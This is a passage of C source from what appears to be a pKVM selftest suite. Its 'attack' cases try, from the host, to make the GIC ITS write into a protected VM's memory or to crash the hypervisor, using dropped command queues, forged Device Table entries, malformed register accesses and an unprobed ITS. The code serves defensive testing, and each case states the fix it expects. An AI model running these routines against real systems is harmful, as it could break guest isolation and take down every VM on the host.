		p = strrchr(real, '/');
		snprintf(bdf, len, "%s", p + 1);
		found = 1;
	}
	if (dir)
		closedir(dir);
	return found;
}

/* The ITT address in the driver's MAPD for the rebound function, 0 if none */
/* Probe the virtio-rng function afresh: its ITT is allocated anew. */
static void rng_rebind(const char *bdf)
{
	write_file(VIRTIO_PCI_DRIVER "/unbind", bdf);
	write_file(VIRTIO_PCI_DRIVER "/bind", bdf);
	/* As main() does, for the new device */
	write_file(RNG_QUALITY, "0\n");
}

static u64 driver_itt(void)
{
	u64 *cmd, itt = 0;
	u32 from, to, s;
	char bdf[64];

	if (!rng_pci_function(bdf, sizeof(bdf)) || its_wait_idle(&from))
		return 0;
	rng_rebind(bdf);
	if (its_wait_idle(&to))
		return 0;

	for (s = from; s != to; s = (s + 1) % gic.cq_slots) {
		cmd = gic.cq + s * (ITS_CMD_SIZE / sizeof(u64));
		if ((READ_ONCE(cmd[0]) & 0xff) == GITS_CMD_MAPD &&
		    (READ_ONCE(cmd[2]) & BIT_ULL(63)))
			itt = READ_ONCE(cmd[2]) & GENMASK_ULL(51, 8);
	}
	ksft_print_msg("rebound %s: the driver's MAPD has ITT 0x%lx\n", bdf, itt);
	return itt;
}

/* @len bytes for ITTs, in a page of the driver's ITTs if possible */
static u64 itt_space(struct attack_ctx *c, u32 len)
{
	u64 itt = driver_itt(), page = itt & ~(u64)(SZ_4K - 1), off;
	u8 *p = itt ? map_phys(page, SZ_4K) : NULL;
	u32 i;

	for (off = SZ_4K - ALIGN(len, 256); p && off > (itt & (SZ_4K - 1)); off -= 256) {
		for (i = 0; i < len && !READ_ONCE(p[off + i]); i++)
			;
		if (i == len)
			return page + off;
	}
	ksft_print_msg("no free space next to the driver's ITTs: ITT in a page of the host\n");
	return c->host_pa[1];
}

/*
 * Attack: cbaser_reset_drops_unmap
 *
 * Writing GITS_CBASER resets GITS_CREADR to 0: commands queued but not yet
 * executed are dropped. The host maps device A with its ITT in page T of the
 * pVM's memslot that the guest has not touched yet, and device B with its
 * ITT at P, next to one of the driver's ITTs. It disables the ITS, queues
 * MAPD V=0 for both, writes GITS_CBASER with the value it holds, enables the
 * ITS again and brings the queue back to where the driver expects it: the
 * ITS never ran the unmaps. A is still mapped to T: the guest takes T, and
 * MAPTI for A writes an ITE into it.
 *
 * A hypervisor that releases an ITT once GITS_CREADR has moved past its
 * MAPD V=0 counts dropped commands as executed: it forgets A and B, and
 * drops its pins on T and P while the Device Table still names them. If it
 * only accepts ITTs in pages the driver claimed, T is refused to begin with;
 * the host then drops a MAPD V=1 for B (ITT at Q) the same way, so that the
 * hypervisor believes B's ITT is Q while the ITS still uses P: MAPTI for B,
 * checked against Q, writes its ITE at P. Were P's page released to the
 * host and given to a pVM, the ITE would land in the pVM; only the kernel
 * releases ITT pages (__pkvm_its_release_itt), and the driver never does for
 * a page of its ITT pool, so the case reports that divergence instead.
 *
 * The hypervisor must refuse a GITS_CBASER write while commands are queued
 * (or hand them to the ITS again), and only count a command as executed
 * when the ITS has executed it.
 */

/*
 * Queue @cmds with the ITS disabled and drop them with a GITS_CBASER write.
 * False if the write was refused: the ITS then runs them.
 */
static bool queue_drop(struct attack_ctx *c, const struct its_cmd *cmds, u32 n)
{
	u32 q = gic.cq_slots, w, i;
	struct store64 st;

	if (its_wait_idle(&w)) {
		c->res->its_failed = -EBUSY;
		return false;
	}
	its_disable(c);
	for (i = 0; i < n; i++)
		queue_put(w + i, &cmds[i]);
	wr32(gic.its, GITS_CWRITER, ((w + n) % q) * ITS_CMD_SIZE);

	c->cbaser_saved = rd64(gic.its, GITS_CBASER);
	c->cq_slot_saved = w;
	c->cbaser_changed = 1;
	st.addr = gic.its + GITS_CBASER;
	st.val = c->cbaser_saved;
	if (!guarded(store64, &st)) {
		ksft_print_msg("GITS_CBASER written, %u commands queued: GITS_CREADR %u -> %u\n", n,
			       w, queue_slot(rd32(gic.its, GITS_CREADR)));
		its_restore(c);
		return true;
	}

	ksft_print_msg("GITS_CBASER write refused with %u commands queued\n", n);
	c->cbaser_changed = 0;
	its_enable(c);
	wr32(gic.its, GITS_CWRITER, ((w + n) % q) * ITS_CMD_SIZE);
	if (its_wait_read((w + n) % q) || its_sync_to((w + n) % q, w))
		c->res->its_failed = -EIO;
	return false;
}

/* Whether the @len bytes at @pa are all zero, through /dev/mem */
static bool phys_zero(u64 pa, u32 len)
{
	u8 *p = map_phys(pa, len);
	u32 i;

	TEST_ASSERT(p, "Cannot map 0x%lx", pa);
	for (i = 0; i < len && !READ_ONCE(p[i]); i++)
		;
	return i == len;
}

static void attack_cbaser_reset_drops_unmap(void *arg)
{
	struct attack_ctx *c = arg;
	u64 t = c->v.pa[LATE_PAGE], p = itt_space(c, 512), q = p + 256;
	u32 dev_a = c->devid, dev_b = c->devid - 1;
	struct its_cmd cmd[3];
	bool at_p, at_q;
	char bdf[64];

	cmd_mapd(&cmd[0], dev_a, t, 0, true);
	cmd_mapd(&cmd[1], dev_b, p, 0, true);
	if (its_send(c, cmd, 2))
		return;

	cmd_mapd(&cmd[0], dev_a, 0, 0, false);
	cmd_mapd(&cmd[1], dev_b, 0, 0, false);
	queue_drop(c, cmd, 2);

	cmd_mapd(&cmd[0], dev_b, q, 0, true);
	queue_drop(c, cmd, 1);

	cmd_mapti(&cmd[0], dev_b, 0, c->lpi, 0);
	if (its_send(c, cmd, 1))
		goto unmap;
	at_p = !phys_zero(p, gic.ite_size);
	at_q = !phys_zero(q, gic.ite_size);
	if (at_p && !at_q) {
		/* Only a hypervisor that polices the ITS has records to disagree. */
		c->res->diverged = its_stat("refused ") >= 0;
		ksft_print_msg("%sMAPTI for B wrote its ITE at 0x%lx, the ITT of a MAPD V=1\n",
			       c->res->diverged ? "divergence: " : "", p);
		ksft_print_msg("whose V=0 was dropped, not at 0x%lx, the ITT of the last one\n", q);
	} else {
		ksft_print_msg("MAPTI for B: ITE %s at 0x%lx, %s at 0x%lx\n",
			       at_p ? "found" : "none", p, at_q ? "found" : "none", q);
	}

	if (victim_donate(c))
		goto unmap;
	if (c->v.pa[LATE_PAGE] != t) {
		case_set(c, CASE_NA, "the page moved when the guest took it");
		goto unmap;
	}
	cmd_mapti(&cmd[0], dev_a, 0, c->lpi, 0);
	its_send(c, cmd, 1);
unmap:
	/* DISCARD zeroes B's ITE again, wherever the ITS keeps it. */
	cmd_event(&cmd[0], GITS_CMD_DISCARD, dev_b, 0);
	cmd_mapd(&cmd[1], dev_b, 0, 0, false);
	cmd_mapd(&cmd[2], dev_a, 0, 0, false);
	its_send(c, cmd, 3);
	/*
	 * The device just probed may have sent an MSI while the ITS was off,
	 * which is lost with the request it completed: start it afresh, so
	 * that the health checks judge the attack, not that request.
	 */
	if (rng_pci_function(bdf, sizeof(bdf)))
		rng_rebind(bdf);
}

/*
 * Attack: pendtable_as_l2
 *
 * A redistributor's LPI pending table is memory the GIC writes. Offered as a
 * level-2 page of the Device Table, it gives the host Device Table entries
 * that it can rewrite through the redistributor, whoever owns the page. The
 * host reads CPU0's pending table address from GICR_PENDBASER and writes it,
 * with Valid, into an unused level-1 entry of the Device Table. It maps a
 * device whose entry falls at byte offset o >= 1024 of that page (8-byte
 * entries on QEMU): the ITS writes the entry into the pending table, over
 * the pending bits of LPIs 8o..8o+63. The host maps those 64 LPIs to the
 * events of a helper device, on a collection of CPU0, disabled in the LPI
 * property table so that no CPU takes them, and rewrites the entry bit by bit
 * with INT (set) and CLEAR (clear), until its ITT address is a page of the
 * pVM. MAPTI for the forged device then writes an ITE into the guest.
 *
 * The hypervisor must own the LPI pending tables, and refuse them, like any
 * memory a device writes, as level-2 pages.
 */
#define DTE_BITS		64

static void load64(void *arg)
{
	struct store64 *st = arg;

	st->val = rd64(st->addr, 0);
}

static void attack_pendtable_as_l2(void *arg)
{
	struct attack_ctx *c = arg;
	struct its_table *t = &gic.dt;
	u64 epp = t->psz / t->esz, nr_l1, *l1, pend_pa, want, itt_h, itt_d;
	u32 helper = c->devid, helper_len = ALIGN(DTE_BITS * gic.ite_size, 256);
	u32 devid, lpi, o, n = 0;
	struct its_cmd cmd[DTE_BITS + 8];
	struct store64 st;
	u8 *pend, *prop;
	int u = -1, i;

	if (!gic.qemu || t->esz != 8) {
		case_set(c, CASE_NA, "unknown Device Table entry format (IMPLEMENTATION DEFINED)");
		return;
	}
	if (!t->indirect) {
		case_set(c, CASE_NA, "the Device Table is flat");
		return;
	}

	pend_pa = rd64(gic.rd[0], GICR_PENDBASER) & GICR_PENDBASER_ADDR;
	pend = map_phys(pend_pa, SZ_64K);
	prop = map_phys(rd64(gic.rd[0], GICR_PROPBASER) & GICR_PROPBASER_ADDR,
			gic.lpi_limit - LPI_BASE);
	l1 = map_phys(t->pa, t->size);
	TEST_ASSERT(pend && prop && l1, "Cannot map the LPI tables or the level-1 Device Table");

	nr_l1 = min_t(u64, t->size / 8, DIV_ROUND_UP(BIT_ULL(gic.dev_bits), epp));
	for (i = nr_l1 - 1; i >= 0 && u < 0; i--)
		if (!rd64(l1, i * sizeof(*l1)))
			u = i;
	if (u < 0) {
		case_set(c, CASE_NA, "no unused level-1 Device Table entry");
		return;
	}

	/*
	 * An entry over 64 LPIs that are not pending and disabled, half way up
	 * the LPI range: away from the driver's LPIs and the cases' (the top).
	 */
	o = ALIGN_DOWN(min_t(u64, gic.lpi_limit / 8, t->psz) / 2, 8);
	for (; o >= LPI_BASE / 8; o -= 8) {
		for (i = 0; i < 8 && !READ_ONCE(pend[o + i]); i++)
			;
		if (i < 8)
			continue;
		for (i = 0; i < DTE_BITS; i++)
			if (READ_ONCE(prop[o * 8 - LPI_BASE + i]) & LPI_PROP_ENABLED)
				break;
		if (i == DTE_BITS)
			break;
	}
	if (o < LPI_BASE / 8) {
		case_set(c, CASE_NA, "no Device Table entry over 64 free LPIs");
		return;
	}
	lpi = o * 8;
	devid = u * epp + o / t->esz;
	itt_h = itt_space(c, helper_len + 256);
	itt_d = itt_h + helper_len;

	c->l1e_saved = 0;
	c->l1e = &l1[u];
	st.addr = &l1[u];
	st.val = GITS_L1E_VALID | pend_pa;
	if (guarded(store64, &st)) {
		ksft_print_msg("level-1 entry %d: pending table 0x%lx refused\n", u, pend_pa);
		c->l1e = NULL;
		return;
	}
	ksft_print_msg("level-1 entry %d -> CPU0's pending table 0x%lx (reads back 0x%lx)\n", u,
		       pend_pa, rd64(l1, u * sizeof(*l1)));
	ksft_print_msg("DeviceID 0x%x: entry at +0x%x, over LPIs %u-%u\n", devid, o, lpi,
		       lpi + DTE_BITS - 1);

	cmd_mapc(&cmd[n++], gic.my_icid, gic.rd0_target, true);
	/* Size: EventID bits - 1 */
	cmd_mapd(&cmd[n++], helper, itt_h, fls(DTE_BITS - 1) - 1, true);
	for (i = 0; i < DTE_BITS; i++)
		cmd_mapti(&cmd[n++], helper, i, lpi + i, gic.my_icid);
	cmd_mapd(&cmd[n++], devid, itt_d, 0, true);
	if (its_send(c, cmd, n))
		goto out;

	/* What the ITS wrote; a hypervisor that took the page hides it. */
	st.addr = (u64 *)(pend + o);
	st.val = QEMU_DTE_VALID | FIELD_PREP(QEMU_DTE_ITT, itt_d >> 8);
	if (guarded(load64, &st))
		ksft_print_msg("the pending table is no longer readable: entry 0x%lx assumed\n",
			       st.val);
	else
		ksft_print_msg("Device Table entry in the pending table: 0x%lx\n", st.val);

	want = QEMU_DTE_VALID | FIELD_PREP(QEMU_DTE_ITT, c->v.pa[TARGET_PAGE] >> 8);
	for (n = 0, i = 0; i < DTE_BITS; i++)
		if ((st.val ^ want) & BIT_ULL(i))
			cmd_event(&cmd[n++], want & BIT_ULL(i) ? GITS_CMD_INT : GITS_CMD_CLEAR,
				  helper, i);
	if (its_send(c, cmd, n))
		goto out;
	if (!guarded(load64, &st))
		ksft_print_msg("forged entry 0x%lx, wanted 0x%lx\n", st.val, want);

	cmd_mapti(&cmd[0], devid, 0, c->lpi, 0);
	its_send(c, cmd, 1);
out:
	/* MAPD V=0 writes an invalid, all-zero, entry: no LPI is left pending. */
	n = 0;
	cmd_mapd(&cmd[n++], devid, 0, 0, false);
	for (i = 0; i < DTE_BITS; i++)
		cmd_event(&cmd[n++], GITS_CMD_DISCARD, helper, i);
	cmd_mapd(&cmd[n++], helper, 0, 0, false);
	cmd_mapc(&cmd[n++], gic.my_icid, 0, false);
	its_send(c, cmd, n);

	st.addr = &l1[u];
	st.val = 0;
	if (guarded(store64, &st))
		ksft_print_msg("level-1 entry %d could not be cleared again\n", u);
	c->l1e = NULL;
}

struct hammer {
	int cpu;
	unsigned int seed;
};

static void cwriter_hammer_loop(void *arg)
{
	struct hammer *h = arg;
	int i;

	for (i = 0; i < 100; i++)
		WRITE_ONCE(*(u32 *)(gic.its + GITS_CWRITER),
			   (rand_r(&h->seed) % gic.cq_slots) * ITS_CMD_SIZE);
}

static void *cwriter_hammer(void *arg)
{
	struct hammer *h = arg;
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(h->cpu, &set);
	sched_setaffinity(0, sizeof(set), &set);

	if (guarded(cwriter_hammer_loop, h))
		ksft_print_msg("GITS_CWRITER write denied on CPU %d\n", h->cpu);
	return NULL;
}

/*
 * Attack: malformed_regs
 *
 * The host uses the ITS registers in ways the driver never does, each of which
 * an emulation of the ITS must survive without hanging the host, the
 * hypervisor or the ITS, and without letting anything through:
 *  - a write to the read-only GITS_CREADR, rewinding it over commands that
 *    already ran (QEMU accepts it as GICD_CTLR.DS is set): the ITS runs them
 *    again. Here they map a device with its ITT in a page that, since then,
 *    the guest has taken: the ITS writes an ITE into the guest;
 *  - GITS_CWRITER beyond the queue, unaligned, and written 32 bits at a time;
 *  - 32-bit writes to either half of GITS_CBASER and GITS_BASER<n> (with the
 *    values they hold);
 *  - writes to the read-only, reserved and IMPLEMENTATION DEFINED registers
 *    (0xc000-0xffcf) and the ID registers;
 *  - GITS_CTLR disabled and enabled again and again;
 *  - GITS_CWRITER written from two CPUs at once, with a queue full of SYNCs.
 * It lands if the victim changes or the system breaks.
 *
 * The hypervisor must emulate every register of the ITS (and redistributors)
 * itself: read-only and unknown registers write-ignored, 32-bit halves merged
 * into the 64-bit value, queue offsets checked against the queue size, and the
 * queue processed under a lock with bounded work.
 */
static void attack_malformed_regs(void *arg)
{
	struct attack_ctx *c = arg;
	u32 q = gic.cq_slots, w, off;
	struct hammer h[2] = { { 0, 1 }, { 1, 2 } };
	pthread_t thr[2];
	struct its_cmd cmd[3];
	u64 itt = c->v.pa[LATE_PAGE], val;
	int i;

	/* Rewind GITS_CREADR over commands whose ITT page went to the guest */
	cmd_mapd(&cmd[0], c->devid, itt, 0, true);
	cmd_mapti(&cmd[1], c->devid, 0, c->lpi, 0);
	cmd_mapd(&cmd[2], c->devid, 0, 0, false);
	if (its_send(c, cmd, 3) || its_wait_idle(&w))
		return;
	if (victim_donate(c))
		return;
	if (c->v.pa[LATE_PAGE] != itt) {
		case_set(c, CASE_NA, "the page moved when the guest took it");
	} else {
		wr32(gic.its, GITS_CREADR, ((w + q - 3) % q) * ITS_CMD_SIZE);
		ksft_print_msg("GITS_CREADR written: slot %u -> %u, reads back slot %u\n", w,
			       (w + q - 3) % q, queue_slot(rd32(gic.its, GITS_CREADR)));
	}
	wr32(gic.its, GITS_CWRITER, w * ITS_CMD_SIZE);
	if (its_wait_read(w))
		ksft_print_msg("the ITS did not come back to slot %u\n", w);

	/* Fill the whole queue with SYNCs, for what comes next */
	if (its_send(c, NULL, 0) || its_wait_idle(&w))
		return;

	/* GITS_CWRITER beyond the queue, unaligned, 32-bit halves */
	wr32(gic.its, GITS_CWRITER, (q + 4) * ITS_CMD_SIZE);
	wr32(gic.its, GITS_CWRITER, GITS_QUEUE_OFFSET);
	wr32(gic.its, GITS_CWRITER, w * ITS_CMD_SIZE + 0x1e);
	wr32(gic.its, GITS_CWRITER + 4, 0xffffffff);
	wr32(gic.its, GITS_CWRITER + 4, 0);
	wr32(gic.its, GITS_CWRITER, w * ITS_CMD_SIZE);
	if (its_wait_read(w))
		ksft_print_msg("the ITS is not at slot %u after bad GITS_CWRITER values\n", w);

	/* 32-bit halves of GITS_CBASER and GITS_BASER<n>, values unchanged */
	val = rd64(gic.its, GITS_CBASER);
	wr32(gic.its, GITS_CBASER, (u32)val);
	wr32(gic.its, GITS_CBASER + 4, val >> 32);
	for (i = 0; i < GITS_BASER_NR_REGS; i++) {
		val = rd64(gic.its, GITS_BASER + 8 * i);
		wr32(gic.its, GITS_BASER + 8 * i + 4, val >> 32);
		wr32(gic.its, GITS_BASER + 8 * i, (u32)val);
	}

	/* Read-only, reserved, IMPLEMENTATION DEFINED and ID registers */
	for (off = GITS_IIDR; off < GITS_CBASER; off += 4)
		wr32(gic.its, off, 0xa5a5a5a5);
	for (off = GITS_CREADR + 8; off < GITS_BASER; off += 4)
		wr32(gic.its, off, 0xa5a5a5a5);
	for (off = GITS_BASER + 8 * GITS_BASER_NR_REGS; off < GITS_RESERVED_END; off += 4)
		wr32(gic.its, off, 0xa5a5a5a5);
	for (off = GITS_IMPDEF_BASE; off < ITS_CTRL_SIZE; off += 4)
		wr32(gic.its, off, 0xa5a5a5a5);

	/* GITS_CTLR cycles */
	for (i = 0; i < 16; i++) {
		its_disable(c);
		its_enable(c);
	}

	/* GITS_CWRITER from two CPUs at once */
	for (i = 0; i < 2; i++)
		pthread_create(&thr[i], NULL, cwriter_hammer, &h[i]);
	for (i = 0; i < 2; i++)
		pthread_join(thr[i], NULL);
	wr32(gic.its, GITS_CWRITER, w * ITS_CMD_SIZE);
	if (its_wait_read(w)) {
		ksft_print_msg("the ITS did not come back to slot %u\n", w);
		c->res->its_failed = -EIO;
	}
}

/*
 * Attack: el2_unchecked_access
 *
 * The host accesses the ITS control frame and the redistributors' RD_base
 * frame (and VLPI_base, with GICv4) at offsets and widths that the GIC does
 * not define there: GITS_MPIDR, a 32-bit register, read as 64 bits; reserved
 * words of the ITS written; reserved or IMPLEMENTATION DEFINED words of
 * RD_base (0x18 and 0x1c, GICR_MPAMIDR and GICR_PARTIDR only with MPAM, 0x80,
 * 0x100, 0xffc0) and of VLPI_base read; GICR_PROPBASER written 32 bits at a
 * time, with the value it holds.
 *
 * QEMU answers every one of them (RAZ/WI) and nothing changes. Hardware need
 * not: the GIC may answer such an access with an external abort. Once the
 * hypervisor has taken these frames, an access it passes on is made at EL2,
 * where an external abort panics the hypervisor, and every pVM with it. So
 * whatever the GIC answers, the attack lands as soon as one of the accesses
 * reaches it; it is blocked if every one of them faults in the host instead
 * (SIGSEGV or SIGBUS, depending on how the refusal is reflected).
 *
 * The hypervisor must pass on only the accesses it knows, at the width of
 * the register, and refuse all others to the host.
 */
enum { FRAME_ITS, FRAME_RD, FRAME_VLPI };

struct raw_access {
	const char *name;
	int frame;
	u32 off;
	u8 size;
	bool write;
};

static const struct raw_access unchecked_accesses[] = {
	{ "GITS_MPIDR, 64-bit read", FRAME_ITS, GITS_MPIDR, 8, false },
	{ "ITS 0x0098 (reserved), write", FRAME_ITS, 0x0098, 4, true },
	{ "ITS 0x0140 (reserved), write", FRAME_ITS, 0x0140, 4, true },
	{ "RD_base 0x0018, read", FRAME_RD, 0x0018, 4, false },
	{ "RD_base 0x001c, read", FRAME_RD, 0x001c, 4, false },
	{ "RD_base 0x0080 (reserved), read", FRAME_RD, 0x0080, 4, false },
	{ "RD_base 0x0100 (reserved), read", FRAME_RD, 0x0100, 4, false },
	{ "RD_base 0xffc0, read", FRAME_RD, 0xffc0, 4, false },
	{ "GICR_PROPBASER, 32-bit write", FRAME_RD, GICR_PROPBASER, 4, true },
	{ "VLPI_base 0x0000 (reserved), read", FRAME_VLPI, 0x0000, 4, false },
	{ "VLPI_base 0x0100 (reserved), read", FRAME_VLPI, 0x0100, 4, false },
};

struct raw_op {
	void *addr;
	u8 size;
	bool write;
	u64 val;
};

static void raw_op(void *arg)
{
	struct raw_op *op = arg;

	if (op->write && op->size == sizeof(u64))
		wr64(op->addr, 0, op->val);
	else if (op->write)
		wr32(op->addr, 0, op->val);
	else if (op->size == sizeof(u64))
		op->val = rd64(op->addr, 0);
	else
		op->val = rd32(op->addr, 0);
}

static void attack_el2_unchecked_access(void *arg)
{
	struct attack_ctx *c = arg;
	const struct raw_access *a;
	int reached = 0, refused = 0, sig;
	struct raw_op op, prop = { .size = sizeof(u64) };
	bool have_prop = false;
	unsigned int i;
	void *base;

	if (gic.rd[0]) {
		prop.addr = gic.rd[0] + GICR_PROPBASER;
		have_prop = !guarded(raw_op, &prop);
	}

	for (i = 0; i < ARRAY_SIZE(unchecked_accesses); i++) {
		a = &unchecked_accesses[i];
		if (a->frame == FRAME_ITS)
			base = gic.its;
		else if (a->frame == FRAME_RD)
			base = gic.rd[0];
		else
			base = gic.rd[0] && gic.gicr_stride == GICR_FRAME_V4 ?
			       gic.rd[0] + GICR_VLPI_BASE : NULL;
		if (!base || (a->frame == FRAME_RD && a->off == GICR_PROPBASER && !have_prop))
			continue;

		op.addr = base + a->off;
		op.size = a->size;
		op.write = a->write;
		/* The value the register holds, or zero for a reserved word */
		op.val = a->off == GICR_PROPBASER ? (u32)prop.val : 0;
		sig = guarded(raw_op, &op);
		if (sig) {
			refused++;
			c->res->denied = sig;
			ksft_print_msg("%s: refused (signal %d)\n", a->name, sig);
		} else {
			reached++;
			ksft_print_msg("unchecked: %s reached the GIC (%s 0x%lx)\n", a->name,
				       a->write ? "wrote" : "read", op.val);
		}
	}

	ksft_print_msg("%d accesses reached the GIC, %d were refused\n", reached, refused);
	if (!reached && !refused)
		case_set(c, CASE_NA, "no ITS or redistributor frame to access");
	c->res->unchecked = reached > 0;
}

/*
 * Attack: lpi_beyond_rdist_idbits
 *
 * The ITS takes any pINTID in a MAPTI below 2^(GITS_TYPER.ID_bits + 1); the
 * LPI tables of the redistributors only cover the INTIDs below
 * 2^(GICR_PROPBASER.IDbits + 1). Where the first limit is higher, the host
 * maps an event to an LPI between the two: fired (INT), it would have the
 * redistributor look up its configuration and set its pending bit beyond the
 * end of both tables, in memory that may be anyone's. The case does not fire
 * it: it lands if the ITS took the MAPTI, which shows as the ITE in the ITT
 * (or, where the hypervisor counts the commands it refuses, as a count that
 * did not grow). Where both limits agree (QEMU: 16 bits each), there is no
 * such LPI and the case is n/a.
 *
 * The hypervisor must bound the pINTID of MAPTI (and MAPI) by the
 * redistributors' GICR_PROPBASER.IDbits, not by GITS_TYPER.ID_bits.
 */
static void attack_lpi_beyond_rdist_idbits(void *arg)
{
	struct attack_ctx *c = arg;
	long long refused_before, refused_after;
	u32 its_bits = gic.id_bits, rd_bits, intid;
	struct its_cmd cmd[4];
	bool ite;
	u64 itt;

	if (!gic.rd[0]) {
		case_set(c, CASE_NA, "no redistributor found");
		return;
	}
	rd_bits = FIELD_GET(GICR_PROPBASER_ID_BITS, rd64(gic.rd[0], GICR_PROPBASER)) + 1;
	ksft_print_msg("GITS_TYPER.ID_bits: %u bits, GICR_PROPBASER.IDbits: %u bits\n",
		       its_bits, rd_bits);
	if (its_bits == rd_bits) {
		case_set(c, CASE_NA,
			 "ITS EventID bits and redistributor IDbits agree on this machine (%u bits)",
			 rd_bits);
		return;
	}
	if (its_bits < rd_bits) {
		case_set(c, CASE_NA,
			 "the ITS allows fewer INTID bits (%u) than the redistributors (%u)",
			 its_bits, rd_bits);
		return;
	}

	intid = BIT(rd_bits);
	itt = itt_space(c, 256);
	refused_before = its_stat("refused ");
	cmd_mapc(&cmd[0], gic.my_icid, gic.rd0_target, true);
	cmd_mapd(&cmd[1], c->devid, itt, 0, true);
	cmd_mapti(&cmd[2], c->devid, 0, intid, gic.my_icid);
	if (its_send(c, cmd, 3))
		return;
	refused_after = its_stat("refused ");
	ite = !phys_zero(itt, gic.ite_size);
	c->res->unchecked = ite || (refused_before >= 0 && refused_after == refused_before);
	ksft_print_msg("%sMAPTI to LPI %u: ITE %s at 0x%lx, refused commands %lld -> %lld\n",
		       c->res->unchecked ? "unchecked: " : "", intid, ite ? "written" : "none",
		       itt, refused_before, refused_after);

	/*
	 * Map the event to an LPI the tables cover before DISCARD, which
	 * clears its pending bit: none beyond the tables is touched.
	 */
	cmd_mapti(&cmd[0], c->devid, 0, c->lpi, gic.my_icid);
	cmd_event(&cmd[1], GITS_CMD_DISCARD, c->devid, 0);
	cmd_mapd(&cmd[2], c->devid, 0, 0, false);
	cmd_mapc(&cmd[3], gic.my_icid, 0, false);
	its_send(c, cmd, 4);
}

/*
 * Attack: is_protected_toctou
 *
 * The hypervisor refuses to create a pVM when the ITS was not handed over to
 * it. __pkvm_init_vm used to make that check on kvm->arch.pkvm.is_protected
 * in host memory, and to read the field again for the copy the VM runs with:
 * a host CPU that sets it between the two reads gets a protected VM past the
 * check. The field is in the kernel's struct kvm, out of reach of a root
 * user, so the race needs kernel code, and the case is n/a. The hypervisor
 * now reads the field once, into its own copy, and decides on that.
 */
static void attack_is_protected_toctou(void *arg)
{
	struct attack_ctx *c = arg;

	case_set(c, CASE_NA,
		 "needs kernel code: the race flips kvm->arch.pkvm.is_protected in host memory between two reads in __pkvm_init_vm; the hypervisor now reads its own copy once");
}

/*
 * An ITS the firmware describes but the kernel did not probe (disabled in
 * the devicetree, or its driver gave up): nothing hands it over, so it is
 * the host's to program from scratch, tables and queue included, and one
 * MAPD and one MAPTI make it write an ITE into any page. The hypervisor
 * cannot take what it was never told about: it must count the ITSs the
 * firmware describes and refuse protected VMs when one was not handed
 * over. Needs a boot with the ITS disabled (run-matrix.sh --its-off).
 */
/* GITS_BASER<n>.Type and Entry_Size, read-only */
#define GITS_BASER_RO_FIELDS	(GENMASK_ULL(58, 56) | GENMASK_ULL(52, 48))

/* Point the GITS_BASER<n> of @type at the page at @pa, or invalidate it (@pa 0). */
static void its_program_table(u64 type, u64 pa)
{
	u64 baser;
	int i;

	for (i = 0; i < GITS_BASER_NR_REGS; i++) {
		baser = rd64(gic.its, GITS_BASER + 8 * i);
		if (GITS_BASER_TYPE(baser) == type) {
			/* Flat, one 4 KiB page. */
			wr64(gic.its, GITS_BASER + 8 * i, (baser & GITS_BASER_RO_FIELDS) |
			     (pa ? GITS_BASER_VALID | pa : 0));
			return;
		}
	}
}

static void attack_its_not_probed(void *arg)
{
	struct attack_ctx *c = arg;
	u64 *queue = (u64 *)c->host;
	struct its_cmd cmd[4];
	u32 i;

	if (!gic.unprobed) {
		case_set(c, CASE_NA,
			 "the kernel probed the ITS (the boot with the ITS disabled in the devicetree runs this case)");
		return;
	}

	/* Host pages 1 and 2: Device and Collection Tables; page 0: the queue. */
	its_program_table(GITS_BASER_TYPE_DEVICE, c->host_pa[1]);
	its_program_table(GITS_BASER_TYPE_COLLECTION, c->host_pa[2]);
	wr64(gic.its, GITS_CBASER, GITS_CBASER_VALID | c->host_pa[0]);
	wr32(gic.its, GITS_CWRITER, 0);
	wr32(gic.its, GITS_CTLR, GITS_CTLR_ENABLE);

	cmd_mapc(&cmd[0], 0, gic.rd0_target, true);
	cmd_mapd(&cmd[1], 0, c->v.pa[TARGET_PAGE], 0, true);
	cmd_mapti(&cmd[2], 0, 0, LPI_BASE, 0);
	cmd_mapd(&cmd[3], 0, 0, 0, false);
	memcpy(queue, cmd, sizeof(cmd));
	wr64(gic.its, GITS_CWRITER, ARRAY_SIZE(cmd) * ITS_CMD_SIZE);
	for (i = 0; i < 1000 && queue_slot(rd32(gic.its, GITS_CREADR)) != ARRAY_SIZE(cmd); i++)
		usleep(1000);
	ksft_print_msg("unprobed ITS: GITS_CREADR 0x%x after MAPD with the ITT at 0x%lx\n",
		       rd32(gic.its, GITS_CREADR), c->v.pa[TARGET_PAGE]);

	/* Disabled again, with no valid queue or table: as the firmware left it. */
	wr32(gic.its, GITS_CTLR, 0);
	wr64(gic.its, GITS_CBASER, c->host_pa[0]);
	its_program_table(GITS_BASER_TYPE_DEVICE, 0);
	its_program_table(GITS_BASER_TYPE_COLLECTION, 0);
}

/*
 * Found by review, not expressible under QEMU 7.2; each is covered where it
 * can be, and the case says where.
 *
 * A firmware that saves the ITS across system suspend writes GITS_CBASER
 * back on resume, which resets GITS_CREADR to 0, then GITS_CWRITER: the
 * ITS runs the whole queue again, retired MAPDs into pages since given
 * away included.
 */
static void attack_queue_replay_after_resume(void *arg)
{
	case_set(arg, CASE_NA,
		 "QEMU's PSCI has no SYSTEM_SUSPEND and its ITS never resets GITS_CREADR behind GITS_CBASER; tools/testing/pkvm-its (test_queue_replay) and the fuzzer's power operations cover it");
}

/*
 * With GICR_TYPER.CommonLPIAff, redistributors share one LPI configuration:
 * a GICR_PROPBASER with more IDbits, written to one not in use yet, could
 * become that of redistributors whose pending tables were sized for fewer.
 */
static void attack_propbaser_common_lpi_aff(void *arg)
{
	case_set(arg, CASE_NA,
		 "QEMU keeps GICR_PROPBASER per redistributor (CommonLPIAff 0)");
}

/* GICR_SETLPIR with an INTID past the tables the hypervisor took. */
static void attack_direct_lpi_out_of_range(void *arg)
{
	case_set(arg, CASE_NA, "QEMU's redistributors have no DirectLPI");
}

/* GICv4.1: GICR_INVALLR with V=1 makes a redistributor read a vPE's VCONF. */
static void attack_gicv41_vpe_invall(void *arg)
{
	case_set(arg, CASE_NA, "QEMU 7.2 models GICv4.0, not GICv4.1");
}

/* A property table at physical address 0 once disabled the same-table check. */
static void attack_prop_table_at_pa0(void *arg)
{
	case_set(arg, CASE_NA, "the virt machine's memory starts at 1 GiB");
}

struct attack_case {
	const char *name;
	void (*fn)(void *arg);
	enum layout layout;
};

/* In order: the ones that leave the system usable first */
static const struct attack_case cases[] = {
	{ "mapd_itt_in_pvm", attack_mapd_itt_in_pvm, LAYOUT_ALL },
	{ "itt_range_overlap", attack_itt_range_overlap, LAYOUT_ODD },
